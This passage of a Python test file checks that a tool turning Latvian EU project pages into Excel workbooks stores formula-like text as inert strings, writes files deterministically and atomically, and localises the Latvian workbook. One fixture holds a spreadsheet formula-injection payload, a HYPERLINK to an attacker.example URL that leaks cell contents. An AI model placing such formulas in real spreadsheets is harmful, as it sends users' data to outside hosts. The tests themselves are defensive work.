    cells = [c.value for row in wb["Summary"].iter_rows() for c in row if isinstance(c.value, str)]
    assert "Zemgale (LV009)" in cells and excel.text("chart.regions.region") in cells


def test_empty_tables_do_not_crash(tmp_path):
    wb = openpyxl.load_workbook(excel.write_workbook(Tables.empty(), tmp_path / "empty.xlsx", lang="lv"))
    assert wb.sheetnames[0] == "Kopsavilkums" and wb["Projekti"].max_row == 1


# --------------------------------------------------------------------------------------------
# Safety


def _all_string_cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    yield ws.title, c


@pytest.mark.parametrize("crafted", EVIL_TEXTS)
def test_formula_like_text_is_stored_as_text(crafted, wb_en):
    assert looks_like_formula(crafted) or crafted == "#N/A"  # "#N/A" would otherwise become an error value
    hits = [(t, c) for t, c in _all_string_cells(wb_en) if c.value == crafted]
    assert hits, crafted
    for _, c in hits:
        assert c.data_type == "s"


CRAFTED_PAGE = """\
=HYPERLINK("http://attacker.example/?leak="&A1,"Projekts Nr. LLI-999") (EvilProject) Nr. LLI-999

=1+2 Projekta kopējais budžets ir 10 000.00 EUR, t.sk. 8 500.00 EUR (85%) Eiropas Reģionālā attīstības fonda (ERAF) finansējums.

@SUM(A1:A9) Projekta īstenošanas laiks: no 2020.gada 1.jūlija līdz 2022. gada 30.novembrim.

+371 63005560 Projekts kļūs pieejams vismaz 50 cilvēkiem.
"""


def test_crafted_input_page_stays_text(tmp_path):
    """A page whose lines look like formulas, through extraction into the workbook."""
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "crafted.txt").write_text(CRAFTED_PAGE, encoding="utf-8")
    t = socreport.extract(tmp_path / "in")
    path = excel.write_workbook(t, tmp_path / "crafted.xlsx")
    wb = openpyxl.load_workbook(path)
    sentences = [c for _, c in _all_string_cells(wb) if c.column_letter and c.value.startswith(("=", "@", "+"))]
    starts = {c.value[:5] for c in sentences}
    assert {"=HYPE", "=1+2 ", "@SUM(", "+371 "} <= starts
    assert all(c.data_type == "s" for c in sentences)
    with zipfile.ZipFile(path) as z:
        assert not any("<f>" in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))


def test_no_formulas_anywhere(wb_en, wb_lv, books):
    for wb in (wb_en, wb_lv):
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (ws.title, c.coordinate, c.value)
    with zipfile.ZipFile(books["en"]) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert "<f>" not in z.read(name).decode()


def test_illegal_control_characters_are_replaced(tmp_path):
    t = seed_tables()
    docs = t.documents.copy()
    docs.loc[0, "message"] = "bad\x0bchar\x1f"
    wb = openpyxl.load_workbook(excel.write_workbook(Tables(docs, *[t[n] for n in Tables.EXTRACTED[1:]]),
                                                     tmp_path / "ctl.xlsx"))
    assert "bad\ufffdchar\ufffd" in column_values(wb["Documents"], "Message")


@pytest.mark.parametrize("value,expected", [
    (pd.NA, None), (float("nan"), None), (float("inf"), None), (pd.NaT, None), (None, None),
    (85.0, 85.0), (3, 3), (True, True), ("=1+1", "=1+1"), ("x" * 40000, "x" * 32766 + "…"),
    (pd.Timestamp("2020-07-01"), dt.datetime(2020, 7, 1)),
])
def test_excel_value(value, expected):
    assert excel.excel_value(value) == expected


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@example("\ud800 lone surrogate")
@example("non-character \ufffe\uffff")
@example("=1+1\x0b\x1f")
@example("\r\n-2 rinda")
@given(st.text(max_size=60) | st.sampled_from(EVIL_TEXTS).flatmap(lambda p: st.text(max_size=20).map(lambda t: p + t)))
def test_any_text_is_stored_as_inert_text(value):
    """Whatever a page says, the cell is a string cell, the file is valid, and the text comes back
    as written (characters an xlsx file cannot hold as U+FFFD; XML reads CR as LF)."""
    wb = openpyxl.Workbook()
    cell = excel.put(wb.active, 1, 1, excel.excel_value(value))
    assert cell.data_type == "s"
    back = openpyxl.load_workbook(io.BytesIO(excel.workbook_bytes(wb))).active["A1"]
    expected = excel.clean_text(value).replace("\r\n", "\n").replace("\r", "\n")
    # the XML reader in use (lxml or the standard library) may keep a CR or turn it into LF
    assert (back.value or "").replace("\r\n", "\n").replace("\r", "\n") == expected
    assert back.data_type == ("s" if expected else "inlineStr")  # openpyxl writes "" as an empty inline string


def test_percent_divisor():
    assert excel.excel_value(85.0, 100.0) == 0.85
    assert excel.excel_value(3.75, 100.0) == 0.0375


# --------------------------------------------------------------------------------------------
# Determinism and atomic write


def test_byte_identical_second_write(tables, books, tmp_path):
    again = excel.write_workbook(tables, tmp_path / "again.xlsx")
    assert again.read_bytes() == books["en"].read_bytes()
    lv_again = excel.write_workbook(tables, tmp_path / "again_lv.xlsx", lang="lv")
    assert lv_again.read_bytes() == books["lv"].read_bytes()


def test_fixed_timestamps(books):
    wb = openpyxl.load_workbook(books["en"])
    assert wb.properties.created == dt.datetime(2020, 12, 8) == wb.properties.modified  # latest publication
    assert wb.properties.lastModifiedBy == "socreport"
    with zipfile.ZipFile(books["en"]) as z:
        infos = z.infolist()
    assert {i.date_time for i in infos} == {excel.ZIP_TIME}
    # openpyxl's own part order (fixed for a given workbook; the zip is written once, not re-sorted)
    assert "[Content_Types].xml" in {i.filename for i in infos} and len({i.filename for i in infos}) == len(infos)


def test_failed_write_leaves_no_file_and_no_temp(tables, tmp_path, monkeypatch):
    def boom(src, dst):
        raise OSError("disk full")

    monkeypatch.setattr(files.os, "replace", boom)
    with pytest.raises(OSError, match="disk full"):
        excel.write_workbook(tables, tmp_path / "r.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_failed_write_keeps_the_previous_report(tables, tmp_path, monkeypatch):
    target = tmp_path / "r.xlsx"
    target.write_bytes(b"previous report")

    def half_copy(src, dst, length=0):  # fails half-way through writing the temporary file's zip
        data = src.read()
        dst.write(data[: len(data) // 2])
        raise OSError("write failed")

    monkeypatch.setattr(excel.files.shutil, "copyfileobj", half_copy)
    with pytest.raises(OSError, match="write failed"):
        excel.write_workbook(tables, target)
    assert target.read_bytes() == b"previous report"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.xlsx"]


def test_failure_while_building_writes_nothing(tables, tmp_path, monkeypatch):
    monkeypatch.setattr(excel, "write_about", lambda *a, **k: (_ for _ in ()).throw(RuntimeError("bug")))
    with pytest.raises(RuntimeError):
        excel.write_workbook(tables, tmp_path / "x" / "r.xlsx")
    assert not (tmp_path / "x" / "r.xlsx").exists()


def test_unknown_language(tables, tmp_path):
    with pytest.raises(ValueError, match="lang"):
        excel.write_workbook(tables, tmp_path / "r.xlsx", lang="de")


def test_texts_have_both_languages():
    table = {r["key"]: r for r in texts.data_table("workbook_text.csv")}
    for key, by_lang in table.items():
        for lang in excel.LANGS:
            assert by_lang[lang].strip(), (key, lang)
    for key, _ in excel.SHEET_ORDER:
        for lang in excel.LANGS:
            name = excel.text(f"sheet.{key}", lang)
            assert len(name) <= 31 and not set(name) & set("[]:*?/\\")


# --------------------------------------------------------------------------------------------
# The Latvian workbook speaks Latvian


def english_code_words() -> set[str]:
    """Every code of the coded columns whose Latvian word differs (severities, checks, scopes, roles,
    sources, funds ...), every column name a Quality or Sources row may name, TRUE and FALSE."""
    words = {r["en"] for r in texts.data_table("values_text.csv") if r["en"] != r["lv"]}
    words |= {c.name for t in ("projects", "indicators") for c in schemas.get(t).columns}
    return words


#: Columns of the About sheet's data dictionary that name the CSV columns (technical names, kept as they are).
def _dictionary_name_cells(ws) -> set[tuple[int, int]]:
    cells = set()
    hdr = texts.text("about.col.name", "lv")
    for row in ws.iter_rows():
        for c in row:
            if c.value == hdr:
                cells |= {(r, c.column) for r in range(c.row, ws.max_row + 1)}
    return cells


def test_latvian_workbook_shows_no_english_code_word(wb_lv):
    codes = english_code_words()
    found = []
    for ws in wb_lv.worksheets:
        skip = _dictionary_name_cells(ws) if ws.title == texts.text("sheet.about", "lv") else set()
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value in codes and (c.row, c.column) not in skip:
                    found.append((ws.title, c.coordinate, c.value))
    assert not found


@pytest.mark.parametrize("code,word", [
    ("ERDF", "ERAF"), ("EEA", "EEZ"), ("CF", "KF"), ("EAFRD", "ELFLA"), ("ESF", "ESF"),
])
def test_funds_as_latvian_readers_write_them(code, word):
    assert texts.value_word(("fund",), code, "lv") == word


def test_latvian_codes_become_words(wb_lv):
    funding = wb_lv[texts.text("sheet.funding", "lv")]
    scopes = set(column_values(funding, schemas.label("funding", "scope", "lv")))
    assert scopes <= {"viss projekts", "partnera daļa"} and "viss projekts" in scopes
    sources = set(column_values(funding, schemas.label("funding", "source", "lv")))
    assert "ERAF" in sources and "valsts" in sources
    quality = wb_lv[texts.text("sheet.quality", "lv")]
    severities = set(column_values(quality, schemas.label("quality", "severity", "lv")))
    assert severities <= {"kļūda", "brīdinājums", "informācijai"}
    fields = set(column_values(quality, schemas.label("quality", "field", "lv"))) - {None}
    assert fields and fields <= {c.lv for t in ("projects", "indicators", "funding") for c in schemas.get(t).columns}


def test_every_code_has_a_latvian_word():
    from importlib import resources

    raw = resources.files("socreport").joinpath("parse/lexicon/programmes.csv").read_text(encoding="utf-8")
    programmes = {r["programme"] for r in texts.read_commented_csv(raw)}
    wanted = [("programme", p) for p in programmes] + [("check", c.id) for c in schemas.CHECKS]
    wanted += [("fund", f) for f in schemas.EU_FUNDS] + [("severity", s) for s in texts.SEVERITIES]
    for domain, table, column in (("scope", "funding", "scope"), ("role", "partners", "role"),
                                  ("qualifier", "beneficiaries", "qualifier"), ("kind", "beneficiaries", "kind"),
                                  ("dimension", "aggregates", "dimension"), ("status", "documents", "status"),
                                  ("extraction", "documents", "extraction")):
        wanted += [(domain, v) for v in schemas.get(table).column(column).allowed]
    wanted += [("source", s) for s in schemas.SOURCES if s not in schemas.EU_FUNDS]
    missing = [(d, c) for d, c in wanted if texts.value_word((d,), c, "lv") is None]
    assert not missing
    assert all(texts.value_word((d,), c, "en") == c for d, c in wanted)  # English keeps the codes


def test_latvian_numbers_have_a_decimal_comma(wb_lv, wb_en):
    proj = wb_lv[texts.text("sheet.projects", "lv")]
    col = header_map(proj)[schemas.label("projects", "total_budget_eur", "lv")]
    fmt = proj.cell(row=2, column=col).number_format
    assert fmt.startswith("[$-426]") and fmt.endswith("#,##0.00")
    en = wb_en["Projects"].cell(row=2, column=header_map(wb_en["Projects"])["Total budget, EUR (nominal)"])
    assert en.number_format == "#,##0.00"
    booleans = [c.number_format for ws in wb_lv.worksheets for row in ws.iter_rows() for c in row
                if isinstance(c.value, bool)]
    assert booleans and set(booleans) == {'"jā";"jā";"nē"'}


@pytest.mark.parametrize("lang", excel.LANGS)
def test_print_layout(lang, loaded):
    wb = loaded[lang]
    for ws in wb.worksheets[1:-1]:  # the data sheets
        ps = ws.page_setup
        assert ps.orientation == "landscape" and ws.sheet_properties.pageSetUpPr.fitToPage
        assert ps.fitToWidth in (1, 2) and ps.fitToHeight == 0
        assert ws.print_title_rows == "$1:$1"
        assert ws.print_area and ws.print_area.endswith(f"${ws.max_row}")
    projects = wb.worksheets[1]
    assert projects.page_setup.fitToWidth <= 2


# --------------------------------------------------------------------------------------------
# LibreOffice


def _tool(name: str):
    """A module of ``tools/`` (not a package), loaded from its file."""
    spec = importlib.util.spec_from_file_location(name, Path(__file__).resolve().parents[1] / "tools" / f"{name}.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


_libreoffice = _tool("libreoffice")


def _soffice() -> str | None:
    found = _libreoffice.find_soffice()
    if not found and os.environ.get("SOCREPORT_REQUIRE_LIBREOFFICE") == "1":
        pytest.fail("SOCREPORT_REQUIRE_LIBREOFFICE=1 but soffice is not installed")
    return found


def convert_to_pdf(soffice: str, xlsx: Path, outdir: Path) -> Path:
    return _libreoffice.convert_to_pdf(soffice, xlsx, outdir, timeout=120)


@pytest.mark.slow
@pytest.mark.parametrize("lang", excel.LANGS)
def test_libreoffice_converts_the_workbook(lang, books, tmp_path):
    soffice = _soffice()
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    pdf = convert_to_pdf(soffice, books[lang], tmp_path)
    assert pdf.exists() and pdf.stat().st_size > 1000
    assert pdf.read_bytes().startswith(b"%PDF")


@pytest.mark.slow
def test_end_to_end_on_the_seeds(raw_dir, tmp_path):
    t = socreport.extract(raw_dir)
    if not len(t.projects):
        pytest.skip("extraction gives no projects yet: " + "; ".join(t.documents["message"].dropna().unique()))
    t = socreport.checks.add_quality(socreport.indicators.add_indicators(t))
    path = excel.write_workbook(t, tmp_path / "seeds.xlsx")
    again = excel.write_workbook(t, tmp_path / "seeds2.xlsx")
    assert path.read_bytes() == again.read_bytes()
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == SHEETS["en"]
    assert wb["Projects"].max_row == len(t.projects) + 1
    ids = column_values(wb["Projects"], "Project")
    assert "LLI-491" in ids
    r = ids.index("LLI-491")
    total = column_values(wb["Projects"], schemas.label("projects", "total_budget_eur"))[r]
    assert total == pytest.approx(661092.24)
    soffice = _libreoffice.find_soffice()
    if soffice:
        assert convert_to_pdf(soffice, path, tmp_path).stat().st_size > 1000


def _pdf_text(pdf: Path) -> str:
    import pdfplumber

    with pdfplumber.open(pdf) as doc:
        return "\n".join(page.extract_text() or "" for page in doc.pages)


def _pdf_pages(pdf: Path) -> int:
    import pdfplumber

    with pdfplumber.open(pdf) as doc:
        return len(doc.pages)


def _free_text_words(tables: Tables) -> set[str]:
    """Words of the tables' free texts (titles, names, sentences): a code word there is the page's own."""
    coded = {c for cols in excel.words.WORD_COLUMNS.values() for c in cols} | {"value"}
    words: set[str] = set()
    for name in ("projects", "funding", "partners", "beneficiaries", "sources", "documents"):
        df = tables[name]
        for c in df.columns:
            if c not in coded and df[c].dtype == "string":
                for v in df[c].dropna().tolist():
                    words |= set(re.findall(r"\w+", str(v)))
    return words


@pytest.mark.slow
def test_latvian_workbook_as_pdf_shows_no_english_code_word(books, tables, tmp_path):
    """The Latvian workbook printed by LibreOffice: no code word in the text of its pages (the About
    sheet's data dictionary, which names the CSV columns and codes, is left out of the conversion)."""
    soffice = _soffice()
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    wb = openpyxl.load_workbook(books["lv"])
    del wb[texts.text("sheet.about", "lv")]
    path = tmp_path / "lv-no-about.xlsx"
    wb.save(path)
    words = set(re.findall(r"\w+", _pdf_text(convert_to_pdf(soffice, path, tmp_path))))
    codes = {w for w in english_code_words() if re.fullmatch(r"\w+", w)} - _free_text_words(tables)
    assert words and not words & codes, sorted(words & codes)
    assert "ERAF" in words and "ERDF" not in words


@pytest.mark.slow
@pytest.mark.parametrize("lang", excel.LANGS)
def test_projects_sheet_prints_at_most_two_pages_wide(lang, books, tmp_path):
    """The Projects sheet alone, cut to its header and first row, prints on as many pages as it is wide."""
    soffice = _soffice()
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    wb = openpyxl.load_workbook(books[lang])
    title = texts.text("sheet.projects", lang)
    for name in [n for n in wb.sheetnames if n != title]:
        del wb[name]
    ws = wb[title]
    for name in list(ws.tables):
        del ws.tables[name]
    ws.delete_rows(3, ws.max_row)
    ws.print_area = f"A1:{openpyxl.utils.get_column_letter(ws.max_column)}2"
    path = tmp_path / f"projects-{lang}.xlsx"
    wb.save(path)
    assert 1 <= _pdf_pages(convert_to_pdf(soffice, path, tmp_path)) <= 2


# --------------------------------------------------------------------------------------------
# Large tables: the sheet cap and the single zip


@pytest.mark.parametrize("lang", excel.LANGS)
def test_a_sheet_past_the_row_limit_keeps_its_first_rows_and_says_where_the_rest_is(lang, tables, tmp_path):
    """A synthetic Sources table longer than the sheet (the cap made small: Excel's own limit,
    1 048 576 rows, would take minutes to reach): first rows kept in order, a note under them, About
    names the sheet; the other sheets are whole."""
    src = tables.sources
    big = pd.concat([src] * 12, ignore_index=True)
    t = Tables(**{n: (big if n == "sources" else getattr(tables, n)) for n in Tables.EXTRACTED},
               derived=dict(tables.derived))
    limit = 20
    wb = openpyxl.load_workbook(excel.write_workbook(t, tmp_path / f"cut-{lang}.xlsx", lang=lang, max_rows=limit))
    ws = wb[texts.text("sheet.sources", lang)]
    assert ws.max_row == limit
    shown = limit - 2
    note = ws.cell(row=limit, column=1).value
    assert note == texts.text("sheet.cut", lang, shown=shown, cut=len(big) - shown, total=len(big), table="sources")
    assert "sources.csv" in note and "sources.parquet" in note
    ordered = excel.sources_frame(t)
    field = column_values(ws, schemas.label("sources", "sentence", lang))[:shown]
    assert field == [None if pd.isna(v) else v for v in ordered["sentence"].tolist()[:shown]]
    assert ws.print_area.endswith(f"${limit}")
    about = "\n".join(str(c.value) for row in wb[texts.text("sheet.about", lang)].iter_rows() for c in row if c.value)
    assert texts.text("about.cut", lang, sheets=ws.title) in about
    proj = wb[texts.text("sheet.projects", lang)]
    assert proj.max_row == len(t.projects) + 1  # within the limit: whole


def test_the_cap_needs_room_for_a_header_and_a_note(tables, tmp_path):
    with pytest.raises(ValueError, match="max_rows"):
        excel.write_workbook(tables, tmp_path / "x.xlsx", max_rows=2)


def test_workbook_zip_is_written_once_with_fixed_entries(tables, tmp_path, monkeypatch):
    """The file is the zip openpyxl writes through FixedZipFile: no in-memory copy is made on the way
    (workbook_bytes, normalise_zip and BytesIO are not called), and every entry has the fixed time."""
    in_memory = excel.workbook_bytes

    def fail(*a, **k):
        raise AssertionError("the workbook went through memory")

    monkeypatch.setattr(excel.files, "normalise_zip", fail)
    monkeypatch.setattr(excel.files, "workbook_bytes", fail)
    monkeypatch.setattr(excel, "workbook_bytes", fail)
    path = excel.write_workbook(tables, tmp_path / "once.xlsx")
    with zipfile.ZipFile(path) as z:
        infos = z.infolist()
        assert infos and all(i.date_time == excel.ZIP_TIME for i in infos)
        assert len({(i.external_attr, i.create_system, i.compress_type) for i in infos}) == 1
        assert len({i.filename for i in infos}) == len(infos)
    assert in_memory(excel.build_workbook(tables)) == path.read_bytes()
